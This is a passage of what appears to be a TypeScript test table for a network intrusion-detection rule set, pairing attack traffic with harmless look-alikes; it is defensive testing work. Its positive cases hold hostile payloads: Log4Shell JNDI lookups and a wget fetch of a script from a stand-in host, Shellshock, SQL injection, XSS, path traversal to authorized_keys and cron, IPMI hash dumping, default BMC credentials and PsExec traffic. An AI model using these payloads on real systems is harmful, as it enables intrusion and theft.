// One row per bundled rule: traffic that must fire it and a benign look-alike that must not.
// `expect` names the sid whose alert shows the rule worked when the rule itself does not alert
// (a flowbits setter with noalert: its dependent rule's alert is the proof, and the setter's own
// sid must stay absent). `engineBug` marks a case the engine gets wrong (kept as it.fails).

import { HPE_INTERNAL_CA, IDRAC_DEFAULT, ILO_DEFAULT, ESXI_DEFAULT, VMWARE_WEB } from './certs.js';
import {
  dns,
  dnsTcp,
  get,
  hex,
  http,
  httpSession,
  IFACE,
  names,
  post,
  rpcBind,
  rpcRequest,
  smb2Create,
  smb2TreeConnect,
  smb2Write,
  syn,
  tcp,
  tcpClient,
  tls,
  type Traffic,
  udp,
  userAgent,
  vlan,
  vxlan,
} from './traffic.js';

export interface SignatureCase {
  sid: number;
  /** What the positive traffic is (test name). */
  fires: string;
  positive: Traffic | Traffic[];
  /** What the negative traffic is (test name). */
  quiet: string;
  negative: Traffic | Traffic[];
  /** Exact number of alerts of the sid on each positive (thresholded rules); default: at least one. */
  alerts?: number;
  /** The sid whose alert proves the positive (default: sid itself). */
  expect?: number;
  /** Known engine problem: the positive (or negative) is expected to fail until it is fixed. */
  engineBug?: { side: 'positive' | 'negative'; note: string };
}

// ---------------------------------------------------------------------------------------------
// Payloads shared by several cases

const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36';

const vimBody =
  '<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">' +
  '<soapenv:Body><RetrieveServiceContent xmlns="urn:vim25"><_this type="ServiceInstance">ServiceInstance</_this>' +
  '</RetrieveServiceContent></soapenv:Body></soapenv:Envelope>';

const wsmanBody = (action: string, resource: string) =>
  '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" ' +
  'xmlns:w="http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd"><s:Header><a:To>http://10.0.0.5:5985/wsman</a:To>' +
  `<w:ResourceURI s:mustUnderstand="true">${resource}</w:ResourceURI><a:Action s:mustUnderstand="true">${action}</a:Action>` +
  '</s:Header><s:Body/></s:Envelope>';
const SHELL = 'http://schemas.microsoft.com/wbem/wsman/1/windows/shell';
const WMI_CIMV2 = 'http://schemas.microsoft.com/wbem/wsman/1/wmi/root/cimv2';
const WS_TRANSFER = 'http://schemas.xmlsoap.org/ws/2004/09/transfer';
const WS_ENUMERATION = 'http://schemas.xmlsoap.org/ws/2004/09/enumeration';

/** A ustar header block naming `name` followed by one data block (what uploadova receives). */
function tarWith(name: string): Buffer {
  const h = Buffer.alloc(512);
  h.write(name, 0, 'latin1');
  h.write('0000644\0', 100, 'latin1');
  h.write('00000000004\0', 124, 'latin1');
  h.write('ustar\0', 257, 'latin1');
  return Buffer.concat([h, Buffer.from('key\n'.padEnd(512, '\0'))]);
}
function multipart(file: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(
      '--vsidsboundary\r\nContent-Disposition: form-data; name="uploadFile"; filename="a.tar"\r\n' +
        'Content-Type: application/octet-stream\r\n\r\n',
    ),
    file,
    Buffer.from('\r\n--vsidsboundary--\r\n'),
  ]);
}
const UPLOADOVA = '/ui/vropspluginui/rest/services/uploadova';
const HYPER_SEND = '/analytics/telemetry/ph/api/hyper/send';
const VSAN_PROXY = '/ui/h5-vsan/rest/proxy/service';
const MULTIPART = { 'Content-Type': 'multipart/form-data; boundary=vsidsboundary' };
const JSON_TYPE = { 'Content-Type': 'application/json' };
const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };
const SOAP = { 'Content-Type': 'application/soap+xml;charset=UTF-8' };

/** IPMI over RMCP: header, then an IPMI 2.0 session header with `payloadType`, then payload. */
function rmcpPlus(payloadType: number, payload: Buffer): Buffer {
  const h = hex('0600ff07 06 00 00000000 00000000 0000');
  h[5] = payloadType;
  h.writeUInt16LE(payload.length, 14);
  return Buffer.concat([h, payload]);
}
/** RMCP+ Open Session Request proposing these authentication/integrity/confidentiality algorithms. */
const openSession = (auth: number, integrity: number, conf: number) =>
  rmcpPlus(
    0x10,
    Buffer.concat([
      hex('00 04 0000 a0a1a2a3'),
      hex(`00 0000 08 ${auth.toString(16).padStart(2, '0')} 000000`),
      hex(`01 0000 08 ${integrity.toString(16).padStart(2, '0')} 000000`),
      hex(`02 0000 08 ${conf.toString(16).padStart(2, '0')} 000000`),
    ]),
  );
const rakp1 = (user: string) =>
  rmcpPlus(
    0x12,
    Buffer.concat([
      hex('00 000000 02000000'), // tag, reserved, managed system session id
      Buffer.alloc(16, 0x5a), // console random number
      hex('14 0000'), // requested role (admin, name-only lookup), reserved
      Buffer.from([user.length]),
      Buffer.from(user),
    ]),
  );

/** SLPv2 message (RFC 2608) with language tag "en". */
function slp(fn: number, body: Buffer): Buffer {
  const lang = Buffer.from('\0\x02en', 'latin1');
  const len = 12 + lang.length + body.length;
  const h = Buffer.alloc(12);
  h[0] = 2;
  h[1] = fn;
  h.writeUIntBE(len, 2, 3);
  h.writeUInt16BE(0x1234, 10);
  return Buffer.concat([h, lang, body]);
}
const str16 = (s: string) => {
  const b = Buffer.alloc(2);
  b.writeUInt16BE(s.length);
  return Buffer.concat([b, Buffer.from(s, 'latin1')]);
};
const slpSrvRqst = (serviceType: string) =>
  slp(1, Buffer.concat([str16(''), str16(serviceType), str16('DEFAULT'), str16(''), str16('')]));
const slpDaAdvert = () =>
  slp(
    8,
    Buffer.concat([
      hex('0000 00000001'),
      str16(`service:directory-agent://${'A'.repeat(600)}`),
      str16('DEFAULT'),
      str16(''),
      str16(''),
      hex('00'),
    ]),
  );

/** BER TLV with a definite length. */
function ber(tag: number, ...content: Buffer[]): Buffer {
  const body = Buffer.concat(content);
  const len = body.length < 0x80 ? Buffer.from([body.length]) : Buffer.from([0x82, body.length >> 8, body.length & 0xff]);
  return Buffer.concat([Buffer.from([tag]), len, body]);
}
const octets = (s: string) => ber(0x04, Buffer.from(s));
const ldapAttr = (name: string, value: string) => ber(0x30, octets(name), ber(0x31, octets(value)));
const ldapEntry = (...attrs: Buffer[]) =>
  ber(0x30, ber(0x02, Buffer.from([2])), ber(0x64, octets('cn=Exploit,dc=lab'), ber(0x30, ...attrs)));
const ldapClient = ber(0x30, ber(0x02, Buffer.from([1])), ber(0x60, ber(0x02, Buffer.from([3])), octets(''), ber(0x80)));
const ldapBindOk = hex('300c02010161070a010004000400');

/** TPKT + X.224 Connection Request with an mstshash cookie and an RDP negotiation request. */
function rdpConnectionRequest(user: string): Buffer {
  const x224 = Buffer.concat([
    hex('e0 0000 0000 00'),
    Buffer.from(`Cookie: mstshash=${user}\r\n`),
    hex('01 00 0800 03000000'),
  ]);
  const tpkt = Buffer.alloc(4);
  tpkt[0] = 3;
  tpkt.writeUInt16BE(4 + 1 + x224.length, 2);
  return Buffer.concat([tpkt, Buffer.from([x224.length]), x224]);
}
/** TPKT + X.224 Data + MCS Connect Initial whose client network data lists these channels. */
function rdpMcsConnectInitial(channels: string[]): Buffer {
  const defs = Buffer.concat(
    channels.map((c) => {
      const d = Buffer.alloc(12);
      d.write(c, 0, 'latin1');
      d.writeUInt32LE(0x80800000, 8);
      return d;
    }),
  );
  const net = Buffer.alloc(8);
  net.writeUInt16LE(0xc003, 0);
  net.writeUInt16LE(8 + defs.length, 2);
  net.writeUInt32LE(channels.length, 4);
  const gcc = Buffer.concat([hex('000500147c00018120'), Buffer.alloc(64, 0x20), net, defs]);
  // Connect-Initial (BER application 101) with approximate lengths: the rules read no BER.
  const mcs = Buffer.concat([hex('7f658201'), Buffer.from([gcc.length & 0xff]), hex('0401010401010100'), gcc]);
  const tpkt = Buffer.alloc(4);
  tpkt[0] = 3;
  tpkt.writeUInt16BE(4 + 3 + mcs.length, 2);
  return Buffer.concat([tpkt, hex('02f080'), mcs]);
}

const stratum = (o: object) => `${JSON.stringify(o)}\n`;
const longLabel = (i: number, n: number) => `${'k'.repeat(n - 4)}${String(i).padStart(4, '0')}`;

// ---------------------------------------------------------------------------------------------
// The table

export const CASES: SignatureCase[] = [
  // --- management plane -----------------------------------------------------------------------
  {
    sid: 1500000,
    fires: 'POST /sdk with a vim25 SOAP body',
    positive: post('/sdk', vimBody, { 'Content-Type': 'text/xml', SOAPAction: '"urn:vim25/8.0.2.0"' }),
    quiet: 'POST /sdk of an unrelated analytics SDK (JSON body)',
    negative: post('/sdk', '{"event":"app_open","sdk":"2.1"}', JSON_TYPE),
  },
  {
    sid: 1500001,
    fires: 'GET /ui/login',
    positive: get('/ui/login'),
    quiet: 'GET /ui/login-help.html',
    negative: get('/ui/login-help.html'),
  },
  {
    sid: 1500002,
    fires: 'VMware authd banner from port 902',
    positive: tcp(902, [
      [
        's',
        '220 VMware Authentication Daemon Version 1.10: SSL Required, ServerDaemonProtocol:SOAP, ' +
          'MKSDisplayProtocol:VNC , , NFCSSL supported/t\r\n',
      ],
    ]),
    quiet: 'an FTP banner from port 902',
    negative: tcp(902, [['s', '220 ProFTPD Server (Debian) [10.0.0.2]\r\n']]),
  },
  {
    sid: 1500003,
    fires: 'SYN to 5480 (VAMI)',
    positive: [syn(5480), syn(8697)],
    quiet: 'SYN to 5481',
    negative: syn(5481),
  },
  {
    sid: 1500004,
    fires: 'TLS server certificate with OU=VMware ESX Server Default Certificate',
    positive: tls('esxi01.lab.local', [ESXI_DEFAULT]),
    quiet: 'TLS server certificate of another VMware, Inc. site',
    negative: tls('www.vmware.example', [VMWARE_WEB]),
  },
  {
    sid: 1500006,
    fires: 'POST /cimom with CIMOperation: MethodCall',
    positive: post(
      '/cimom',
      '<?xml version="1.0" encoding="utf-8"?><CIM CIMVERSION="2.0" DTDVERSION="2.0">' +
        '<MESSAGE ID="1" PROTOCOLVERSION="1.0"/></CIM>',
      { 'Content-Type': 'application/xml; charset="utf-8"', CIMOperation: 'MethodCall', CIMMethod: 'EnumerateInstances' },
      5988,
    ),
    quiet: 'POST of an ordinary API call mentioning MethodCall',
    negative: post('/api/rpc', '{"op":"MethodCall"}', { 'X-Operation': 'MethodCall' }, 5988),
  },
  {
    sid: 1500007,
    fires: 'SYN to 2179 (VMConnect)',
    positive: syn(2179),
    quiet: 'SYN to 2180',
    negative: syn(2180),
  },
  {
    sid: 1500008,
    fires: 'POST /wsman on 5985',
    positive: post('/wsman', wsmanBody(`${WS_TRANSFER}/Get`, `${WMI_CIMV2}/Win32_OperatingSystem`), SOAP, 5985),
    quiet: 'POST /wsman-docs/search on 5985',
    negative: post('/wsman-docs/search', 'q=winrm', FORM, 5985),
  },
  {
    sid: 1500009,
    fires: 'libvirt RPC call on 16509',
    positive: tcpClient(16509, hex('0000001c 20008086 00000001 00000001 00000000 00000001 00000000')),
    quiet: 'a TLS ClientHello on 16509',
    negative: tcpClient(16509, hex('16030100 2f 0100002b 0303').subarray(0, 12)),
  },
  {
    sid: 1500010,
    fires: 'SYN to 16514',
    positive: syn(16514),
    quiet: 'SYN to 16515',
    negative: syn(16515),
  },
  {
    sid: 1500011,
    fires: 'IPMI Get Channel Authentication Capabilities',
    positive: udp(623, [hex('0600ff07 00 00000000 00000000 09 2018c881 00 38 8e04b5')]),
    quiet: 'RMCP/ASF presence ping',
    negative: udp(623, [hex('0600ff06 000011be 80 00 00 00')]),
  },
  {
    sid: 1500012,
    alerts: 1,
    fires: 'six RAKP Message 1 in a second (hash dumping)',
    positive: udp(623, ['root', 'admin', 'ADMIN', 'Administrator', 'USERID', 'operator'].map(rakp1)),
    quiet: 'two RAKP Message 1 (an ordinary login and its retry)',
    negative: udp(623, [rakp1('admin'), rakp1('admin')]),
  },
  {
    sid: 1500013,
    fires: 'Open Session Request with cipher suite 0',
    positive: udp(623, [openSession(0, 0, 0)]),
    quiet: 'Open Session Request with cipher suite 3',
    negative: udp(623, [openSession(1, 1, 1)]),
  },
  {
    sid: 1500014,
    fires: 'POST /data/login (iDRAC 7/8)',
    positive: [
      post('/data/login', 'user=root&password=calvin', FORM, 443),
      post('/sysmgmt/2015/bmc/session', '', { user: '"root"', password: '"calvin"' }, 443),
    ],
    quiet: 'POST /api/data/login of another application',
    negative: post('/api/data/login', 'user=a&password=b', FORM, 443),
  },
  {
    sid: 1500015,
    fires: 'POST /json/login_session (iLO)',
    positive: post('/json/login_session', '{"method":"login","user_login":"Administrator","password":"x"}'),
    quiet: 'GET /json/login_session (session check)',
    negative: get('/json/login_session'),
  },
  {
    sid: 1500016,
    fires: 'POST /redfish/v1/SessionService/Sessions',
    positive: post('/redfish/v1/SessionService/Sessions', '{"UserName":"root","Password":"calvin"}', JSON_TYPE),
    quiet: 'GET /redfish/v1/SessionService/Sessions (listing sessions)',
    negative: get('/redfish/v1/SessionService/Sessions', { 'X-Auth-Token': '0123456789abcdef' }),
  },
  {
    sid: 1500017,
    fires: 'iLO and iDRAC default certificates',
    positive: [tls('ilo-01.lab.local', [ILO_DEFAULT]), tls('idrac-abc1234.lab.local', [IDRAC_DEFAULT])],
    quiet: 'an HPE certificate from an internal CA',
    negative: tls('ilo-02.lab.local', [HPE_INTERNAL_CA]),
  },
  {
    sid: 1500018,
    fires: 'SYN to 17990 (iLO remote console)',
    positive: [syn(17990), syn(3668)],
    quiet: 'SYN to 17991',
    negative: syn(17991),
  },

  // --- exploits ------------------------------------------------------------------------------
  {
    sid: 1500100,
    fires: 'GET uploadova',
    positive: get(UPLOADOVA),
    quiet: 'GET a vROps plugin resource',
    negative: get('/ui/vropspluginui/resources/plugin.css'),
  },
  {
    sid: 1500101,
    fires: 'uploadova POST of a tar with ../../ names',
    positive: post(UPLOADOVA, multipart(tarWith('../../../../../../home/vsphere-ui/.ssh/authorized_keys')), MULTIPART),
    quiet: 'uploadova POST of a tar with a plain name',
    negative: post(UPLOADOVA, multipart(tarWith('appliance.ovf')), MULTIPART),
  },
  {
    sid: 1500102,
    fires: 'hyper/send with _i=/../../',
    positive: post(`${HYPER_SEND}?_c=&_i=/../../../../../../etc/cron.d/vsids`, '* * * * * root id', JSON_TYPE),
    quiet: 'a CEIP telemetry upload with an ordinary instance id',
    negative: post(`${HYPER_SEND}?_c=vSphere.vapi.6_7&_i=9D36C850-1612-4EC4-B8DD-50BA239A25BB`, '{"data":1}', JSON_TYPE),
  },
  {
    sid: 1500103,
    fires: '/analytics/ceip/sdk/..;/..;/ to the dataapp agent',
    positive: post(
      '/analytics/ceip/sdk/..;/..;/..;/analytics/ph/api/dataapp/agent?_c=test&_i=test2',
      '{"manifestSpec":{}}',
      JSON_TYPE,
    ),
    quiet: 'GET /analytics/ceip/sdk/status',
    negative: get('/analytics/ceip/sdk/status'),
  },
  {
    sid: 1500104,
    fires: 'h5-vsan proxy call of &vsanQueryUtil_setDataService',
    positive: post(`${VSAN_PROXY}/&vsanQueryUtil_setDataService/setTargetObject`, '{"methodInput":[null]}', JSON_TYPE),
    quiet: 'an ordinary vSAN plugin proxy call',
    negative: post(
      `${VSAN_PROXY}/com.vmware.vsan.client.services.capability.VsanCapabilityProvider/getClusterCapabilityData`,
      '{"methodInput":[]}',
      JSON_TYPE,
    ),
  },
  {
    sid: 1500105,
    fires: 'percent-encoded ${jndi:ldap://...} in the query',
    positive: [
      get('/?x=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.66%3A1389%2Fa%7D'),
      // As an overlay mirror delivers it: inside VXLAN between two VTEPs.
      vxlan(5001, get('/?x=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.66%3A1389%2Fa%7D')),
    ],
    quiet: 'a ${user.name} template in the query',
    negative: get('/?tpl=%24%7Buser.name%7D'),
  },
  {
    sid: 1500106,
    fires: '${jndi:ldap://...} in X-Api-Version',
    positive: [
      get('/', { 'X-Api-Version': '${jndi:ldap://10.0.0.66:1389/a}' }),
      // The header cut inside "${jndi:" over two TCP segments.
      tcp(8080, [['c', 'GET / HTTP/1.1\r\nHost: app\r\nX-Api-Version: ${jn'], ['c', 'di:ldap://10.0.0.66/a}\r\n\r\n']]),
    ],
    quiet: 'a ${env.HOME} template in a header',
    negative: get('/', { 'X-Template': '${env.HOME}' }),
  },
  {
    sid: 1500107,
    fires: '${jndi:rmi://...} in a form field',
    positive: post('/login', 'username=${jndi:rmi://10.0.0.66/x}&password=x', FORM),
    quiet: 'a ${USER} placeholder in a form field',
    negative: post('/login', 'username=${USER}&password=x', FORM),
  },
  {
    sid: 1500108,
    fires: '${${lower:j}ndi:...} in User-Agent',
    positive: get('/', { 'User-Agent': '${${lower:j}ndi:${lower:l}dap://10.0.0.66/x}' }),
    quiet: 'a nested ${${name}} template in a header',
    negative: get('/', { 'X-Tmpl': '${${name}}' }),
  },
  {
    sid: 1500109,
    fires: '${${::-j}${::-n}di:...} percent-encoded in the query',
    positive: get('/?q=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7Ddi%3Aldap%3A%2F%2F10.0.0.66%2Fa%7D'),
    quiet: 'a nested ${${name}} template in the query',
    negative: get('/?q=%24%7B%24%7Bname%7D%7D'),
  },
  {
    sid: 1500110,
    fires: 'LDAP search entry with javaClassName and javaCodeBase',
    positive: tcp(1389, [
      ['c', ldapClient],
      ['s', ldapBindOk],
      [
        's',
        ldapEntry(
          ldapAttr('javaClassName', 'Exploit'),
          ldapAttr('javaCodeBase', 'http://10.0.0.66:8000/'),
          ldapAttr('objectClass', 'javaNamingReference'),
          ldapAttr('javaFactory', 'Exploit'),
        ),
      ],
    ]),
    quiet: 'LDAP entry with a javaClassName only; a web page naming both attributes',
    negative: [
      tcp(1389, [
        ['c', ldapClient],
        ['s', ldapBindOk],
        ['s', ldapEntry(ldapAttr('javaClassName', 'java.lang.String'), ldapAttr('cn', 'config'))],
      ]),
      tcp(8080, [
        ['c', 'GET /docs/jndi.html HTTP/1.1\r\nHost: wiki\r\n\r\n'],
        [
          's',
          'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 76\r\n\r\n' +
            '<p>Set javaClassName and javaCodeBase on the entry to bind a Reference.</p>\n',
        ],
      ]),
    ],
  },
  {
    sid: 1500111,
    fires: 'SLP SrvRqst for service:VMwareInfrastructure',
    positive: udp(427, [slpSrvRqst('service:VMwareInfrastructure')]),
    quiet: 'SLP SrvRqst for service:printer',
    negative: udp(427, [slpSrvRqst('service:printer')]),
  },
  {
    sid: 1500112,
    fires: 'SLP DAAdvert with a long URL sent to TCP 427',
    positive: tcpClient(427, slpDaAdvert()),
    quiet: 'SLP SrvRqst over TCP 427',
    negative: tcpClient(427, slpSrvRqst('service:VMwareInfrastructure')),
  },
  {
    sid: 1500113,
    fires: 'MCS Connect Initial listing MS_T120',
    positive: tcpClient(3389, rdpConnectionRequest('alice'), rdpMcsConnectInitial(['rdpdr', 'MS_T120', 'cliprdr'])),
    quiet: 'MCS Connect Initial with the usual channels',
    negative: tcpClient(3389, rdpConnectionRequest('alice'), rdpMcsConnectInitial(['rdpdr', 'cliprdr', 'rdpsnd'])),
  },

  // --- credentials ----------------------------------------------------------------------------
  {
    sid: 1500200,
    fires: 'telnet "login: " prompt',
    positive: tcp(23, [['s', '\xff\xfd\x18\xff\xfd\x20Ubuntu 22.04.3 LTS\r\nweb01 login: ']]),
    quiet: 'telnet "Last login: ..." banner line',
    negative: tcp(23, [['s', 'Last login: Mon Nov 23 10:00:00 2026 from 10.0.0.9\r\nweb01:~$ ']]),
  },
  {
    sid: 1500201,
    expect: 1500202,
    fires: 'telnet Password: prompt then the password',
    positive: tcp(23, [
      ['s', 'web01 login: '],
      ['c', 'admin\r\n'],
      ['s', 'Password: '],
      ['c', 's3cret\r\n'],
    ]),
    quiet: 'telnet session without a password prompt',
    negative: tcp(23, [
      ['s', 'web01 login: '],
      ['c', 'admin\r\n'],
      ['s', 'Last login: Mon Nov 23 10:00:00 2026\r\n$ '],
      ['c', 'ls\r\n'],
    ]),
  },
  {
    sid: 1500202,
    fires: 'client data after the Password: prompt',
    positive: [
      tcp(23, [
        ['s', 'Password: '],
        ['c', 'hunter2\r\n'],
      ]),
      // Character mode: one segment per key press.
      tcp(23, [
        ['s', 'Password: '],
        ['c', 'hunter2\r\n', [1, 2, 3, 4, 5, 6, 7]],
      ]),
    ],
    quiet: 'the user name typed after the login: prompt',
    negative: tcp(23, [
      ['s', 'web01 login: '],
      ['c', 'admin\r\n'],
    ]),
  },
  {
    sid: 1500203,
    expect: 1500204,
    fires: 'USER alice / PASS',
    positive: tcp(21, [
      ['s', '220 FTP server ready\r\n'],
      ['c', 'USER alice\r\n'],
      ['s', '331 Password required for alice\r\n'],
      ['c', 'PASS wonderland\r\n'],
      ['s', '230 User alice logged in\r\n'],
    ]),
    quiet: 'USER anonymous / PASS',
    negative: tcp(21, [
      ['s', '220 FTP server ready\r\n'],
      ['c', 'USER anonymous\r\n'],
      ['s', '331 Guest login ok, send your e-mail as password\r\n'],
      ['c', 'PASS guest@example.com\r\n'],
    ]),
  },
  {
    sid: 1500204,
    fires: 'PASS after USER bob',
    positive: tcp(21, [
      ['c', 'USER bob\r\n'],
      ['s', '331 Password required\r\n'],
      ['c', 'PASS builder\r\n'],
    ]),
    quiet: 'PASS after USER anonymous',
    negative: tcp(21, [
      ['c', 'USER anonymous\r\n'],
      ['s', '331 Guest login ok\r\n'],
      ['c', 'PASS ftp@\r\n'],
    ]),
  },
  {
    sid: 1500205,
    fires: 'Authorization: Basic',
    alerts: 1,
    positive: httpSession(
      ['/admin/', '/admin/users', '/admin/logs'].map((uri) => ({ uri, headers: { Authorization: 'Basic YWRtaW46cGFzc3dvcmQ=' } })),
    ),
    quiet: 'Authorization: Bearer',
    negative: get('/admin/', { Authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl' }),
  },
  {
    sid: 1500206,
    fires: 'POP3 USER/PASS',
    positive: tcp(110, [
      ['s', '+OK POP3 ready\r\n'],
      ['c', 'USER bob\r\n'],
      ['s', '+OK\r\n'],
      ['c', 'PASS hunter2\r\n'],
    ]),
    quiet: 'POP3 APOP (digest)',
    negative: tcp(110, [
      ['s', '+OK POP3 ready <1896.697170952@dbc.mtview.ca.us>\r\n'],
      ['c', 'APOP bob c4c9334bac560ecc979e58001b3e22fb\r\n'],
    ]),
  },
  {
    sid: 1500207,
    fires: 'IMAP a1 LOGIN user password',
    positive: tcp(143, [
      ['s', '* OK IMAP4rev1 ready\r\n'],
      ['c', 'a1 LOGIN bob hunter2\r\n'],
    ]),
    quiet: 'IMAP AUTHENTICATE GSSAPI',
    negative: tcp(143, [
      ['s', '* OK [CAPABILITY IMAP4rev1 AUTH=GSSAPI LOGINDISABLED] ready\r\n'],
      ['c', 'a1 AUTHENTICATE GSSAPI\r\n'],
    ]),
  },

  // --- web attacks ------------------------------------------------------------------------------
  {
    sid: 1500300,
    fires: '/static/../../../../etc/hosts',
    positive: get('/static/../../../../etc/hosts'),
    quiet: 'dots inside a file name',
    negative: get('/static/v1..2/app..min.js'),
  },
  {
    sid: 1500301,
    fires: '%2e%2e%2f sequences',
    positive: get('/static/%2e%2e%2f%2e%2e%2fetc/hosts'),
    quiet: 'ordinary percent-encoding',
    negative: get('/search?q=50%25+off&from=%2Fhome%2Fdeals'),
  },
  {
    sid: 1500302,
    fires: 'file=../../../../etc/passwd',
    positive: get('/download.php?file=../../../../etc/passwd'),
    quiet: '/blog/etc/passwords-best-practices',
    negative: get('/blog/etc/passwords-best-practices.html'),
  },
  {
    sid: 1500303,
    fires: 'page=C:/windows/win.ini',
    positive: get('/view?page=C:/windows/win.ini'),
    quiet: '/themes/darwin.ini.bak',
    negative: get('/themes/darwin.ini.bak'),
  },
  {
    sid: 1500304,
    fires: 'id=1 UNION ALL SELECT',
    positive: get('/item.php?id=1+UNION+ALL+SELECT+NULL,version()--+-'),
    quiet: 'q=trade union selection',
    negative: get('/search?q=trade+union+selection'),
  },
  {
    sid: 1500305,
    fires: "user=admin' OR '1'='1",
    positive: get("/login.php?user=admin'+OR+'1'='1&pass=x"),
    quiet: "q=rock 'n' roll or jazz",
    negative: get("/search?q=rock+'n'+roll+or+jazz"),
  },
  {
    sid: 1500306,
    fires: 'id=1 AND SLEEP(5)',
    positive: get('/products.php?id=1+AND+SLEEP(5)'),
    quiet: '/products/sleep-mask',
    negative: get('/products/sleep-mask?size=2'),
  },
  {
    sid: 1500307,
    fires: 'form body with UNION SELECT',
    positive: post('/login', 'id=1%20UNION%20SELECT%20password%20FROM%20users', FORM),
    quiet: 'form body "the union selected a chair"',
    negative: post('/comment', 'comment=the+union+selected+a+new+chair', FORM),
  },
  {
    sid: 1500308,
    fires: '<script>alert(1)</script> in the query',
    positive: get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E'),
    quiet: '<scripting languages> in the query',
    negative: get('/search?q=%3Cscripting+languages%3E'),
  },
  {
    sid: 1500309,
    fires: '<img src=x onerror=alert(1)>',
    positive: get('/search?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E'),
    quiet: '<b>bold</b> and an onload= parameter',
    negative: get('/search?q=%3Cb%3Ebold%3C/b%3E&onload=1'),
  },
  {
    sid: 1500310,
    fires: 'host=127.0.0.1;cat /etc/hosts',
    positive: get('/ping.php?host=127.0.0.1%3Bcat+/etc/hosts'),
    quiet: ';jsessionid= path parameter',
    negative: get('/app;jsessionid=ABC123?x=1'),
  },
  {
    sid: 1500311,
    fires: 'form body ip=127.0.0.1%3Bwget ...',
    positive: post('/cgi-bin/diag', 'ip=127.0.0.1%3Bwget+http://10.0.0.66/x.sh', FORM),
    quiet: 'form body with a semicolon in a name and the word ping',
    negative: post('/cgi-bin/contact', 'name=Smith%3B+Jones&comment=ping+me+later', FORM),
  },
  {
    sid: 1500312,
    fires: 'User-Agent: () { :; }; /bin/bash -c id',
    positive: get('/cgi-bin/status', { 'User-Agent': "() { :; }; /bin/bash -c 'id'" }),
    quiet: 'a header holding f() { return 1 }',
    negative: get('/', { 'X-Code': 'f() { return 1 }' }),
  },
  {
    sid: 1500320,
    fires: 'sqlmap user agent',
    alerts: 1,
    positive: httpSession(
      ['/', '/?id=1', "/?id=1'", '/?id=1+AND+1=1', '/?id=1+AND+1=2'].map((uri) => ({
        uri,
        headers: { 'User-Agent': 'sqlmap/1.7.11#stable (https://sqlmap.org)' },
      })),
    ),
    quiet: 'browser fetching /docs/sqlmap/',
    negative: userAgent(BROWSER, '/docs/sqlmap/'),
  },
  {
    sid: 1500321,
    fires: 'Nikto user agent',
    positive: userAgent('Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)'),
    quiet: 'browser fetching /tools/Nikto/',
    negative: userAgent(BROWSER, '/tools/Nikto/'),
  },
  {
    sid: 1500322,
    fires: 'Nmap NSE user agent',
    positive: userAgent('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'),
    quiet: 'browser fetching the NSE book page',
    negative: userAgent(BROWSER, '/book/Nmap Scripting Engine.html'.replace(/ /g, '%20')),
  },
  {
    sid: 1500323,
    fires: 'GET /nice%20ports%2C/Tri%6Eity.txt%2ebak',
    positive: http({
      uri: '/nice%20ports%2C/Tri%6Eity.txt%2ebak',
      version: 'HTTP/1.0',
      headers: { Host: '', 'User-Agent': '', Accept: '' },
    }),
    quiet: 'GET /nice%20ports/trinity.txt',
    negative: get('/nice%20ports/trinity.txt'),
  },
  {
    sid: 1500324,
    fires: 'masscan user agent',
    positive: userAgent('masscan/1.3 (https://github.com/robertdavidgraham/masscan)'),
    quiet: 'browser fetching /masscan/',
    negative: userAgent(BROWSER, '/masscan/'),
  },
  {
    sid: 1500325,
    fires: 'zgrab user agent',
    positive: userAgent('Mozilla/5.0 zgrab/0.x'),
    quiet: 'browser fetching /zgrab/',
    negative: userAgent(BROWSER, '/zgrab/'),
  },
  {
    sid: 1500326,
    fires: 'Nuclei user agent',
    positive: userAgent('Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'),
    quiet: 'browser fetching github.com/projectdiscovery/nuclei',
    negative: userAgent(BROWSER, '/projectdiscovery/nuclei'),
  },
  {
    sid: 1500327,
    fires: 'gobuster user agent',
    positive: userAgent('gobuster/3.6'),
    quiet: 'browser fetching /gobuster/',
    negative: userAgent(BROWSER, '/gobuster/'),
  },

  // --- lateral movement ---------------------------------------------------------------------------
  {
    sid: 1500400,
    fires: 'tree connect \\\\10.0.0.5\\ADMIN$',
    positive: [
      tcpClient(445, smb2TreeConnect('\\\\10.0.0.5\\ADMIN$')),
      // From an 802.1Q-tagged port group.
      vlan(120, tcpClient(445, smb2TreeConnect('\\\\10.0.0.5\\ADMIN$'))),
    ],
    quiet: 'tree connect \\\\fs01\\ADMIN_DOCS',
    negative: tcpClient(445, smb2TreeConnect('\\\\fs01\\ADMIN_DOCS')),
  },
  {
    sid: 1500401,
    fires: 'tree connect \\\\10.0.0.5\\C$',
    positive: tcpClient(445, smb2TreeConnect('\\\\10.0.0.5\\C$')),
    quiet: 'tree connect \\\\fs01\\IPC$',
    negative: tcpClient(445, smb2TreeConnect('\\\\fs01\\IPC$')),
  },
  {
    sid: 1500402,
    fires: 'create PSEXESVC.exe',
    positive: tcpClient(445, smb2TreeConnect('\\\\10.0.0.5\\ADMIN$'), smb2Create('PSEXESVC.exe')),
    quiet: 'create PSEXEC-notes.txt',
    negative: tcpClient(445, smb2TreeConnect('\\\\fs01\\share'), smb2Create('PSEXEC-notes.txt')),
  },
  {
    sid: 1500403,
    fires: 'open the svcctl pipe',
    positive: tcpClient(445, smb2TreeConnect('\\\\10.0.0.5\\IPC$'), smb2Create('svcctl')),
    quiet: 'open the srvsvc pipe',
    negative: tcpClient(445, smb2TreeConnect('\\\\10.0.0.5\\IPC$'), smb2Create('srvsvc')),
  },
  {
